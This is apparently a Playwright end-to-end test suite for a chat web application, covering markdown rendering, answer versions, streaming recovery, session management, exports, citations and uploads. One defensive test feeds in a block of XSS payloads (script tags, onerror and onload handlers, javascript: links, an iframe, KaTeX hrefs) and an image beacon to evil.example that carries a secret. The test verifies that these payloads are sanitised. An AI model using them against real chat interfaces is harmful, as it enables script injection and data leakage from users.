"""The chat page as its users work with it: asking, branches, lists, documents, and answers that mean harm."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import pytest_asyncio
from playwright.async_api import Page, expect

from browser.window import LANGUAGES, NARROW
from peers import scripts
from peers.upstream import Exchange, Upstream

RICH = """## Braking distance

A train at **120 km/h** on a dry rail needs about 700 m, see [the rule](https://example.org/rule):

$$
s = \\frac{v^2}{2a}
$$

With $a = 0.8$ it is longer; a ticket costs $5, a day $10.

| Speed | Distance |
| ----: | -------: |
| 80 km/h | 310 m |
| 120 km/h | 700 m |

```python
def distance(speed: float, brake: float = 0.8) -> float:
    return speed**2 / (2 * brake)  # metres
```

1. Look at the signal.
2. Brake early:
   - gently at first,
   - then `hard`.
"""
SLOW_WORDS = [f"word{number}" for number in range(400)]
HOSTILE = """Hello <script>window.ran = 1</script> <img src=x onerror="window.ran = 2">

![beacon](https://evil.example/?q=secret) [click](javascript:window.ran=3) [in](/v1/keys)
<svg onload="window.ran = 4"></svg>

<iframe src="https://evil.example/"></iframe>

| a |
| - |
| <img src="https://evil.example/t.png" onerror="window.ran = 5"> |

$\\href{javascript:window.ran=6}{x}$ and $\\includegraphics{https://evil.example/m.png}$

```html
<script>window.ran = 7</script>
```
"""
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc0000003010100c9fe92ef"
    "0000000049454e44ae426082"
)


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def api(server: Any, admin_key: str) -> AsyncIterator[httpx.AsyncClient]:
    """The server's API, with models whose answers are known."""
    headers = {"authorization": f"Bearer {admin_key}"}
    said = {
        "rich": scripts.stream(scripts.good_events(*RICH.splitlines(keepends=True))),
        "slow": scripts.stream(scripts.good_events(*(f"{word} " for word in SLOW_WORDS)), delay_s=0.008),
        "hostile": scripts.stream(scripts.good_events(HOSTILE)),
    }

    async def answer(exchange: Exchange) -> None:
        if exchange.request.path.endswith("/models"):
            await scripts.json_answer({"data": [{"id": name} for name in said]})(exchange)
        else:
            await said[exchange.request.json()["model"]](exchange)

    async with (
        Upstream(answer) as peer,
        httpx.AsyncClient(base_url=server.url, headers=headers, timeout=30) as client,
    ):
        provider = {"name": "peer", "kind": "openai", "url": peer.url}
        made = await client.post("/v1/providers", json=provider)
        assert made.is_success, made.text
        yield client


async def begin(api: httpx.AsyncClient, **fields: Any) -> str:
    made = await api.post("/v1/sessions", json=fields)
    assert made.status_code == 201, made.text
    return str(made.json()["id"])


async def said(api: httpx.AsyncClient, session: str, content: str) -> None:
    answer = await api.post(f"/v1/sessions/{session}/messages", json={"content": content})
    assert answer.status_code == 200, answer.text


async def ask(page: Page, text: str) -> None:
    await page.get_by_label("Your question").fill(text)
    await page.keyboard.press("Enter")


async def choose_model(page: Page, name: str) -> None:
    await page.get_by_role("button", name="Model:").click()
    await page.get_by_label("Find a model").fill(name)
    await page.get_by_role("button", name=name).first.click()
    await page.get_by_role("button", name=f"Model: {name}").wait_for()


def answer_of(page: Page) -> Any:
    return page.get_by_role("article", name="Answer")


async def test_a_question_is_answered_with_all_that_markdown_has(window, api):
    async with window() as one:
        page = one.page
        await one.open("/chat")
        await choose_model(page, "peer/rich")
        await ask(page, "How long is the braking distance?")
        answer = answer_of(page)
        await answer.locator(".hljs-keyword").first.wait_for()
        assert "/chat/ses_" in page.url
        await expect(answer.get_by_role("heading", name="Braking distance")).to_be_visible()
        assert await answer.locator("table td").all_inner_texts() == ["80 km/h", "310 m", "120 km/h", "700 m"]
        await expect(answer.locator(".katex-display")).to_have_count(1)
        await expect(answer.get_by_text("a ticket costs $5, a day $10.")).to_be_visible()
        assert await answer.locator("ol > li").count() == 2
        assert (
            await answer.get_by_role("link", name="the rule").get_attribute("rel")
            == "noreferrer noopener nofollow"
        )
        # Its title came with the answer.
        await page.get_by_role("link", name="How long is the braking distance").wait_for()
        await answer.get_by_role("button", name="Why peer/rich").click()
        await expect(page.get_by_role("dialog")).to_contain_text("named directly")
        assert await one.serious() == []
        await page.keyboard.press("Escape")
        await one.shot("chat-answer")


async def test_versions_of_questions_and_answers(window, api):
    session = await begin(api, model="peer/rich")
    await said(api, session, "First?")
    async with window() as one:
        page = one.page
        await one.open(f"/chat/{session}")
        await page.get_by_role("button", name="Answer again").click()
        versions = page.get_by_role("article", name="Answer").get_by_role("group", name="Versions")
        await expect(versions).to_contain_text("2 of 2")
        await versions.get_by_role("button", name="Version before").click()
        await expect(versions).to_contain_text("1 of 2")
        await page.get_by_role("article", name="Question").hover()
        await page.get_by_role("button", name="Edit", exact=True).click()
        await page.get_by_label("Put the question differently").fill("Second?")
        await page.keyboard.press("Control+Enter")
        asked = page.get_by_role("article", name="Question")
        await expect(asked).to_contain_text("Second?")
        await expect(asked.get_by_role("group", name="Versions")).to_contain_text("2 of 2")
        await asked.get_by_role("button", name="Version before").click()
        await expect(asked).to_contain_text("First?")
        await expect(versions).to_contain_text("of 2")


async def test_stop_and_go_on(window, api):
    session = await begin(api, model="peer/slow")
    async with window() as one:
        page = one.page
        await one.open(f"/chat/{session}")
        await ask(page, "Count.")
        await expect(answer_of(page)).to_contain_text("word5")
        await page.get_by_role("button", name="Stop").click()
        await answer_of(page).get_by_text("Stopped").wait_for()
        kept = (await api.get(f"/v1/sessions/{session}/messages")).json()["data"][1]
        assert kept["state"] == "stopped"
        assert kept["metadata"]["decision"]["target"] == "peer/slow"
        await page.get_by_role("button", name="Continue").click()
        await expect(answer_of(page)).to_contain_text(SLOW_WORDS[-1])


async def test_an_answer_goes_on_after_a_break_and_after_a_reload(window, api):
    session = await begin(api, model="peer/slow")
    async with window(expected="Failed to load resource|net::ERR") as one:
        page = one.page
        broken = 0

        async def breaks(route: Any) -> None:
            nonlocal broken
            broken += 1
            await (route.abort() if broken == 1 else route.continue_())

        await page.route("**/v1/generations/*/events", breaks)
        await one.open(f"/chat/{session}")
        await ask(page, "Count.")
        await expect(answer_of(page)).to_contain_text("word40")
        assert broken >= 2
        await page.reload()
        await expect(answer_of(page)).to_contain_text("word60")
        await expect(answer_of(page).get_by_role("button", name="Answer again")).to_be_enabled()
        shown = await answer_of(page).locator(".prose-chat").inner_text()
        assert shown.split() == SLOW_WORDS


async def test_nothing_of_an_answer_or_a_question_runs_or_is_fetched(window, api):
    session = await begin(api, model="peer/hostile", title="<img src=x onerror=window.ran=8>")
    await said(api, session, HOSTILE)
    async with window() as one:
        page = one.page
        await one.open(f"/chat/{session}")
        answer = answer_of(page)
        await answer.get_by_text("beacon").wait_for()
        await answer.locator(".hljs-tag, .hljs-name").first.wait_for()
        # Until the part that sets maths has come, an address within a formula is an ordinary link.
        await answer.locator(".katex").first.wait_for()
        assert await answer.locator("img, script, iframe, svg[onload], object").count() == 0
        links = await answer.locator("a").evaluate_all(
            "links => links.map(link => link.getAttribute('href'))"
        )
        assert links == ["https://evil.example/?q=secret"]
        assert await page.evaluate("window.ran") is None
        assert await one.serious() == []


async def menu(page: Page, title: str, action: str) -> None:
    await page.get_by_role("link", name=title, exact=True).hover()
    await (
        page.get_by_label("Chats", exact=True)
        .first.get_by_role("button", name=f"Actions for “{title}”")
        .click()
    )
    await page.get_by_role("menuitem", name=action, exact=True).click()


async def test_the_list_of_sessions(window, api):
    for number in range(3):
        await begin(api, title=f"Session {number}")
    async with window() as one:
        page = one.page
        await one.open("/chat")
        await menu(page, "Session 0", "Rename")
        await page.get_by_label("Title", exact=True).fill("Lunch plans")
        await page.get_by_role("button", name="Save").click()
        await menu(page, "Lunch plans", "Pin")
        await page.get_by_text("Pinned").wait_for()
        await menu(page, "Session 1", "Folders")
        await page.get_by_label("New folder").fill("Work")
        await page.keyboard.press("Enter")
        await page.get_by_role("button", name="Save").click()
        await page.get_by_role("button", name="Folder: All chats").click()
        await page.get_by_role("menuitemcheckbox", name="Work").click()
        await expect(page.get_by_role("link", name="Session 1")).to_be_visible()
        await expect(page.get_by_role("link", name="Lunch plans")).to_have_count(0)
        await page.get_by_role("button", name="Folder: Work").click()
        await page.get_by_role("menuitemcheckbox", name="All chats").click()
        await menu(page, "Session 2", "Archive")
        await expect(page.get_by_role("link", name="Session 2")).to_have_count(0)
        await menu(page, "Session 1", "Delete")
        await page.get_by_role("alertdialog").get_by_role("button", name="Delete").click()
        await expect(page.get_by_role("link", name="Session 1")).to_have_count(0)
        await page.get_by_role("button", name="Folder: All chats").click()
        await page.get_by_role("menuitemcheckbox", name="Deleted").click()
        await menu(page, "Session 1", "Restore")
        async with page.expect_download() as saved:
            await page.get_by_role("button", name="Folder: Deleted").click()
            await page.get_by_role("menuitemcheckbox", name="All chats").click()
            await menu(page, "Lunch plans", "Export as JSON")
        exported = json.loads(
            await asyncio.to_thread(Path(await (await saved.value).path()).read_text, "utf-8")
        )
        assert "Lunch plans" in json.dumps(exported)
        for form, end, first in (
            ("text", ".txt", "Lunch plans"),
            ("CSV", ".csv", "\ufeff"),
            ("Markdown", ".md", "# Lunch plans"),
        ):
            async with page.expect_download() as saved:
                await menu(page, "Lunch plans", f"Export as {form}")
            file = await saved.value
            assert file.suggested_filename.endswith(end)
            text = await asyncio.to_thread(Path(await file.path()).read_text, "utf-8")
            assert text.startswith(first), text[:80]
        await page.get_by_label("Search titles and messages").fill("lunch")
        await page.locator("mark", has_text="Lunch").wait_for()
        assert await one.serious() == []


async def store_of(api: httpx.AsyncClient, name: str, text: str) -> str:
    """A vector store with one document that has been read."""
    file = (
        await api.post(
            "/v1/files", data={"purpose": "user_data"}, files={"file": (name, text.encode(), "text/plain")}
        )
    ).json()
    store = (await api.post("/v1/vector_stores", json={"name": "Bridges", "file_ids": [file["id"]]})).json()
    async with asyncio.timeout(20):
        found = store
        # The server is another process: it can only be asked.
        while found["status"] != "completed":
            await asyncio.sleep(0.1)
            found = (await api.get(f"/v1/vector_stores/{store['id']}")).json()
    assert found["file_counts"]["completed"] == 1, found
    return str(store["id"])


async def test_documents_are_cited_and_open_at_their_passage(window, api):
    text = "# Bridges\n\nThe Iron Bridge crosses the River Severn in Shropshire. It was opened in 1781."
    await store_of(api, "bridges.md", text)
    async with window() as one:
        page = one.page
        await one.open("/chat")
        await page.get_by_role("button", name="Documents").click()
        await page.get_by_label("Bridges").check()
        await page.keyboard.press("Escape")
        await choose_model(page, "roundhouse/extractive")
        await ask(page, "When was the Iron Bridge opened?")
        await page.get_by_role("button", name="Source 1: bridges.md").first.click()
        passage = page.get_by_role("dialog", name="bridges.md")
        await expect(passage.locator("mark")).to_contain_text("It was opened in 1781.")
        assert await one.serious() == []
        await one.shot("chat-passage")


async def test_files_go_along_with_a_question(window, api):
    async with window() as one:
        page = one.page
        await one.open("/chat")
        await choose_model(page, "peer/rich")
        await page.locator("input[type=file]").set_input_files(
            [
                {"name": "dot.png", "mimeType": "image/png", "buffer": PIXEL},
                {"name": "<b>notes.txt", "mimeType": "text/plain", "buffer": b"Some notes."},
            ]
        )
        await expect(
            page.get_by_role("list", name="Attached files").get_by_role("progressbar")
        ).to_have_count(0)
        await ask(page, "What is this?")
        asked = page.get_by_role("article", name="Question")
        await expect(asked.get_by_role("img", name="dot.png")).to_have_js_property("naturalWidth", 1)
        await expect(asked.get_by_role("link", name="_b_notes.txt")).to_be_visible()


@pytest.mark.parametrize("language", LANGUAGES)
async def test_a_conversation_in_every_language_and_on_a_phone(window, api, language):
    session = await begin(api, model="peer/rich", title="Bremsweg · מרחק בלימה", tags=["travel"])
    await said(api, session, "כמה זה? How long is it?")
    theme = "dark" if language == "zh" else "light"
    for size, name in ((None, "wide"), (NARROW, "narrow")):
        async with window(language=language, theme=theme, size=size) as one:
            await one.open(f"/chat/{session}")
            await one.page.locator(".katex-display").wait_for()
            assert await one.too_wide() <= 0
            assert await one.serious() == []
            await one.shot(f"chat-{name}-{language}")
